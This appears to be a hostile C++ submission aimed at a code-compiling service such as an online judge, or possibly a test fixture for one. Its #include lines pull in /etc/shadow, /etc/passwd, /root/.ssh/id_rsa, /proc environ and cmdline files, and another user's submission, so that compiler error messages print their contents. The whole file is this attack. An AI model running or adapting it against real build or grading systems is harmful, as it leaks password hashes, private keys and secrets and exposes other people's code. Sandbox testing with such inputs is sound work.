#include "hostile.h"

// Every line of an included file that is no C++ is quoted in an error, with a caret under it.
#include DECOY_FILE
#include "../other_submission/threads.cpp"
#include "/etc/passwd"
#include "/etc/shadow"
#include "/proc/1/cmdline"
#include "/proc/1/environ"
#include "/proc/1/root/etc/shadow"
#include "/proc/self/cmdline"
#include "/proc/self/cwd/../../etc/shadow"
#include "/proc/self/environ"
#include "/proc/self/mountinfo"
#include "/root/.ssh/id_rsa"

int main() {}
